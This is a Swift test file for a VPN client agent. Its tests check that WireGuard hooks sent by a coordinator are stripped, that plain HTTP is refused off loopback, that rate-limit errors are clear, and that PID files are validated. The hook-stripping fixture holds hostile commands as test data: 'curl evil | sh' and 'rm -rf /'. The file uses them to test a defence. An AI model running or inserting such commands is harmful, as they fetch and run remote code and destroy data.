@testable import FerryAgent
import FerryCore
import FerrySystem
import Foundation
import Testing

/// No code from the coordinator runs as root on a client unless asked for; plain HTTP only
/// where it cannot be overheard; `ferry down` signals only a ferry agent.
@Suite("Client safety")
struct ClientSafetyTests {
    @Test func hooksFromTheCoordinatorAreDropped() {
        let text = "[Interface]\nAddress = 10.10.1.2/32\nPostUp = curl evil | sh\npreup=rm -rf /\n PostDown = x\n[Peer]\nPublicKey = k\n# PostUp = a comment stays\n"
        let (kept, dropped) = WGQuickHooks.strip(text)
        #expect(dropped.count == 3)
        #expect(!kept.contains("curl") && !kept.contains("rm -rf") && !kept.contains("PostDown = x"))
        #expect(kept.contains("Address = 10.10.1.2/32") && kept.contains("# PostUp = a comment stays"))
    }

    @Test func plainHTTPOnlyOnLoopbackUnlessAllowed() throws {
        #expect(try PlainHTTP.check("http://127.0.0.1:8080", allowed: false) == nil)
        #expect(try PlainHTTP.check("http://[::1]:8080", allowed: false) == nil)
        #expect(try PlainHTTP.check("https://gw.example.com:8443", allowed: false) == nil)
        #expect(throws: FerryError.self) { try PlainHTTP.check("http://gw.example.com:8080", allowed: false) }
        #expect(try PlainHTTP.check("http://gw.example.com:8080", allowed: true)?.contains("warning") == true)
    }

    /// A rate-limited request says what it is and what to do, not "the coordinator failed".
    @Test func rateLimitedAnswerSaysWhatToDo() {
        let body = Data(#"{"error":{"code":"rate_limited","message":"this token may make 100 writes at once, then 20 per second; retry in 1 s"}}"#.utf8)
        do {
            try CoordinatorClient.check(429, body)
            Issue.record("429 accepted")
        } catch {
            #expect(error.description.contains("limiting this token") && error.description.contains("retry in 1 s"), "\(error)")
            #expect(!error.description.contains("failed"))
        }
    }

    @Test func aStalePIDFileNamingAnotherProgramIsNotTheAgent() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("ferry-pid-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        let sleeper = ChildProcess()
        sleeper.executableURL = URL(fileURLWithPath: "/bin/sleep")
        sleeper.arguments = ["30"]
        try sleeper.run()
        defer { sleeper.terminate() }
        let state = StateDirectory(path: dir.path)
        try "\(sleeper.processIdentifier)\n".write(toFile: state.pidFile, atomically: true, encoding: .utf8)
        #expect(AgentProcess.running(in: state) == nil, "a live pid that is not `ferry up` must not be taken for the agent")
        #expect(sleeper.isRunning)
    }

    @Test func configRenderSaysWhatItDropped() throws {
        // The CLI path: an admin renders a gateway's config, whose hooks load its firewall.
        let r = try CLI.run(["config", "render", "--help"])
        #expect(r.stdout.contains("--allow-hooks") || r.stderr.contains("--allow-hooks"))
    }
}
